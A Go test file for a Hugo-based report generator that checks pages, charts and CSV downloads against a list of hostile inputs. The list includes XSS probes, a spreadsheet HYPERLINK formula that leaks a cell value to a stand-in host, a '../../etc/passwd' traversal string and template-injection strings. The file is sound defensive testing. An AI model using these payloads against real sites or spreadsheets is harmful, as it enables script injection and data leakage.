package generator

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"path"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"golang.org/x/net/html"
)

// hostile are values that try to leave the place they land in.
var hostile = []string{
	`<script>alert(1)</script>`,
	`" onmouseover="alert(1)`,
	`' onclick='alert(1)`,
	`</title><img src=x onerror=alert(1)>`,
	`]]></svg><script>alert(1)</script>`,
	`{{ printf "%s" site.Title }}`,
	`{{< param "x.y" >}}`, // one that a text of a table may hold is a problem
	`[link](javascript:alert(1))`,
	`=HYPERLINK("http://example.org/?x="&A1,"y")`,
	`+1+1`, `-2+3`, `@SUM(1)`,
	`../../etc/passwd`, `{b}{a}`, "\u202eright to left", `&lt;b&gt;`,
}

// TestNothingThatACSVHoldsCanRun puts hostile values into names, keys, titles of
// pages, charts, tables and downloads, and looks for them in the finished site.
func TestNothingThatACSVHoldsCanRun(t *testing.T) {
	var table bytes.Buffer
	w := csv.NewWriter(&table)
	rows := [][]string{{"name", "n"}}
	for _, value := range hostile {
		rows = append(rows, []string{value, "1"})
	}
	if err := w.WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	const columns = "\nkey: name\ncolumns: {name: {label: \"<b>Name</b>\", unit: text}, n: {label: N, unit: count}}\n*/\nSELECT name, n, [_row] AS t_rows FROM t"
	report := fstest.MapFS{
		"hugo.toml":         {Data: []byte("title = \"<b>Hostile</b>\"\n[[menus.main]]\nname = \"<i>Home</i>\"\npageRef = \"/\"\n[[params.allow_numbers]]\ntext = \"+1+1\"\nreason = \"a name\"\ntimes = 3\n[[params.allow_numbers]]\ntext = \"-2+3\"\nreason = \"a name\"\ntimes = 3\n")},
		"content/_index.md": {Data: []byte("---\ntitle: \"{{< fact `all.name[<script>alert(1)</script>]` >}}\"\n---\n{{< fact `all.name[<script>alert(1)</script>]` >}} {{< finding `flag.yes` >}}{{< fact `all.name[<script>alert(1)</script>]` >}}{{< /finding >}}\n\n{{< table \"all\" >}}\n\n{{< chart \"bars\" >}}\n")},
		// the names become titles, and text in Markdown
		"content/pages/_content.gotmpl": {Data: []byte(`{{ range $i, $l := site.Params.report.Lines "all" }}{{ $name := replace .name "{{<" "" }}{{ $.AddPage (dict "path" (printf "p%d" $i) "title" .name "content" (dict "mediaType" "text/markdown" "value" (printf "A %s B {{< finding ` + "`flag.yes`" + ` >}}%s{{< /finding >}}" (htmlEscape $name) (htmlEscape $name)))) }}{{ end }}`)},
		"data/datapackage.json":         {Data: []byte(`{"title": "<u>x</u>", "resources": [{"name": "t", "path": "t.csv", "title": "<u>t</u>", "description": "<u>d</u>", "schema": {"fields": [{"name": "name", "title": "<u>n</u>", "type": "string"}, {"name": "n", "type": "integer"}]}}]}`)},
		"data/t.csv":                    {Data: table.Bytes()},
		"data/aggregates/all.sql":       {Data: []byte("/*\ntitle: \"<u>All</u>\"\nabout: \"<u>About</u>\"" + columns)},
		"data/aggregates/flag.sql":      {Data: []byte("/*\ntitle: Flag\ncolumns: {yes: {label: Yes, unit: flag}}\n*/\nSELECT count(*) > 0 AS yes, list(_row) AS t_rows FROM t")},
		"data/charts/bars.yaml":         {Data: []byte("kind: bar\nof: all\nx: n\ny: name\ntitle: \"<u>Title</u>\"\nsubtitle: \"<u>Subtitle</u> 2017\"\nnote: \"<u>Note</u>\"\n")},
	}
	// the adapter takes the shortcode out: what it hands on as Markdown is its own
	result, err := Build(t.Context(), report, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range result.Problems {
		t.Error(p)
	}
	for name, text := range result.Pages {
		if path.Ext(name) == ".html" {
			inspect(t, name, text)
		}
	}
	for _, name := range []string{"data/t", "numbers/all"} {
		for file, want := range map[string]func(string) string{
			name + ".csv": func(value string) string { return value },
			name + ".spreadsheet.csv": func(value string) string {
				if strings.ContainsRune("=+-@", rune(value[0])) {
					return "'" + value
				}
				return value
			},
		} {
			all, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(result.Pages[file], []byte("\ufeff")))).ReadAll()
			if err != nil || len(all) != len(hostile)+1 {
				t.Fatal(file, err, len(all))
			}
			for _, value := range hostile {
				if !slices.ContainsFunc(all, func(row []string) bool { return row[0] == want(value) }) {
					t.Errorf("%s: there is no %q", file, want(value))
				}
			}
		}
	}
}

// ours are the scripts of the pages.
var ours = regexp.MustCompile(`^<script src="(\./|(\.\./)+)(dist/reader|js/lost\.min)\.[0-9a-f]{32}\.js" defer="">$`)

// picture is a thumbnail in the list of charts.
var picture = regexp.MustCompile(`^<img src="../charts/[a-z]+\.svg#drawing" alt="" width="\d+" height="\d+" loading="lazy" style="--ratio: \d+ / \d+"/?>$`)

// inspect fails on elements and attributes that only a hostile value can have made.
func inspect(t *testing.T, name string, text []byte) {
	t.Helper()
	z := html.NewTokenizer(bytes.NewReader(text))
	for {
		kind := z.Next()
		if kind == html.ErrorToken {
			return
		}
		if kind != html.StartTagToken && kind != html.SelfClosingTagToken {
			continue
		}
		token := z.Token()
		if token.Data == "script" && ours.MatchString(token.String()) {
			continue
		}
		if token.Data == "script" && token.String() == `<script type="application/ld+json">` { // data, which must be whole
			if z.Next(); !json.Valid(z.Text()) {
				t.Errorf("%s: broken data in a script", name)
			}
			continue
		}
		if token.Data == "img" && picture.MatchString(token.String()) {
			continue
		}
		switch token.Data {
		case "script", "img", "u", "b", "i":
			t.Errorf("%s: an element <%s> came out of a value", name, token.Data)
		}
		for _, a := range token.Attr {
			if strings.HasPrefix(a.Key, "on") || strings.HasPrefix(strings.TrimSpace(a.Val), "javascript:") {
				t.Errorf("%s: <%s %s=%q>", name, token.Data, a.Key, a.Val)
			}
		}
	}
}

// TestSomebodysWords quotes in a sentence, in a finding and as a block.
func TestSomebodysWords(t *testing.T) {
	report := fstest.MapFS{
		"hugo.toml": {Data: []byte(`title = "Report"`)},
		"content/_index.md": {Data: []byte("---\ntitle: Home\n---\nThey said {{< quote source=\"paper\" >}}<b>5</b> *years*{{< /quote >}}.\n\n" +
			"{{< finding \"f.yes\" >}}So {{< quote source=\"paper\" >}}6{{< /quote >}}.{{< /finding >}}\n\n" +
			"{{< quote source=\"paper\" speaker=\"A <man>\" date=\"Jan. 24, 2018\" >}}\nOne & two.\n\nThree.\n{{< /quote >}}\n\nThe end.\n")},
		"data/datapackage.json": {Data: []byte(`{"resources": [{"name": "sources", "path": "sources.csv", "schema": {"fields": [{"name": "id", "type": "string"}, {"name": "title", "type": "string"}], "primaryKey": "id"}}]}`)},
		"data/sources.csv":      {Data: []byte("id,title\npaper,A <i>paper</i>\n")},
		"data/aggregates/f.sql": {Data: []byte("/*\ntitle: F\ncolumns: {yes: {label: Yes, unit: flag}}\n*/\nSELECT count(*) > 0 AS yes, list(_row) AS sources_rows FROM sources")},
	}
	result, err := Build(t.Context(), report, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range result.Problems {
		t.Error(p)
	}
	front := string(result.Pages["index.html"])
	for _, want := range []string{
		`<p>They said <q class="quoted"><a href="./sources/index.html#paper">&lt;b&gt;5&lt;/b&gt; *years*</a></q>.</p>`,
		`<span class="finding" data-finding="f.yes">So <q class="quoted"><a href="./sources/index.html#paper">6</a></q>.</span>`,
		`<blockquote class="quoted"><p>One &amp; two.</p><p>Three.</p><footer>A &lt;man&gt;, <cite class="cited"><a href="./sources/index.html#paper">A &lt;i&gt;paper&lt;/i&gt;</a></cite>, Jan. 24, 2018</footer></blockquote>`,
		`<p>The end.</p>`,
	} {
		if !strings.Contains(front, want) {
			t.Errorf("the page does not hold %s", want)
		}
	}
}
